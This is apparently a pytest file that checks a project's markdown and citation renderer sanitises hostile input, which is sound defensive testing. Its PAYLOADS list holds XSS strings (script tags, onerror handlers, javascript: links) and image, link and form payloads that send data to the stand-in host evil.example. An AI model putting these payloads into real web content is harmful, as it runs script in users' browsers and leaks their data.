"""What a model or a document says can never run in a reader's browser, nor tell another server about the reader."""

from __future__ import annotations

from collections.abc import Callable
from html.parser import HTMLParser

import pytest

from pharos.infra.render import ATTRIBUTES, TAGS, CitationLink, render_markdown, render_quoted

PASSAGE = CitationLink("/projects/p/documents/d?start=3&end=9&page=2#passage", 'plan "A" <1>.pdf, page 2')

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/?q=secret'>",
    "![q](https://evil.example/?q=secret)",
    "![q](//evil.example/?q=secret)",
    "![q](data:image/svg+xml;base64,PHN2Zz4=)",
    "![q][r]\n\n[r]: https://evil.example/?q=secret",
    "[![q](https://evil.example/a.png)](https://evil.example)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=//evil.example autoplay>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](/sign-out)",
    "[x](/\\evil.example)",
    "[x][1a]\n\n[1a]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[1](javascript:alert(1))",
    '[x](https://a.example "t\\" onmouseover=alert(1) ")',
    "[x](https://a.example' onmouseover='alert(1))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```x\" onclick=alert(1) \"\nx\n```",
    "<div hx-get=//evil.example hx-trigger=load>x</div>",
    "<p id=passage class=citation data-x=1>x</p>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "1. <img src=x onerror=alert(1)>\n   - [x](javascript:alert(1))",
    "# <img src=x onerror=alert(1)>",
    "[" * 500 + "x" + "](javascript:alert(1))" * 500,
    "> " * 200 + "<script>alert(1)</script>",
]  # fmt: skip


class Elements(HTMLParser):
    """Every start tag of a fragment with its attributes, as a browser would take them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("render", [render_markdown, render_quoted])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_hostile_survives(payload: str, render: Callable[..., str]) -> None:
    for tag, attributes in Elements(render(payload, citations={1: PASSAGE})).found:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | {"rel", "class"}
        href = attributes.get("href")
        assert href is None or href == PASSAGE.href or href.startswith(("http://", "https://", "mailto:"))
        assert tag != "a" or attributes["rel"] == "noopener nofollow ugc"
        assert attributes.get("class") in {None, "citation"}


def test_a_citation_becomes_a_link_to_its_passage() -> None:
    html = render_markdown("The vault opens at **noon** [1].", citations={1: PASSAGE})
    (_, _), (_, strong), (tag, link) = Elements(html).found
    assert (tag, strong) == ("a", {})
    assert link["href"] == PASSAGE.href
    assert link["title"] == PASSAGE.title
    assert link["class"] == "citation"
    assert ">1</a>." in html


def test_a_citation_of_nothing_stays_text() -> None:
    assert render_markdown("So they say [2].", citations={1: PASSAGE}) == "<p>So they say [2].</p>\n"


def test_code_keeps_its_brackets() -> None:
    assert "<code>row[1]</code>" in render_markdown("`row[1]`", citations={1: PASSAGE})


def test_a_quoted_sentence_keeps_every_character() -> None:
    html = render_quoted("2*3*4 is __init__ & <b>\n\n# not a heading [1]", citations={1: PASSAGE})
    assert html.startswith("<p>2*3*4 is __init__ &amp; &lt;b&gt;</p>\n<p># not a heading&nbsp;<a ")


def test_a_quoted_sentence_goes_on_over_the_end_of_a_line_and_shows_code_as_code() -> None:
    html = render_quoted("Run `make up`\nand `2*3`; \\* stays. [1]", citations={1: PASSAGE})
    assert html.startswith("<p>Run <code>make up</code>\nand <code>2*3</code>; \\* stays.&nbsp;<a ")
    assert "<br" not in html


def test_an_image_leaves_its_words() -> None:
    assert render_markdown("![A plan of the vault](https://e.example/x.png)") == "<p>A plan of the vault</p>\n"


def test_an_outside_link_is_kept() -> None:
    html = render_markdown("[there](https://a.example/x)")
    assert html == '<p><a href="https://a.example/x" rel="noopener nofollow ugc">there</a></p>\n'


def test_a_heading_stands_below_the_title_of_the_page() -> None:
    assert render_markdown("# Result") == "<h2>Result</h2>\n"
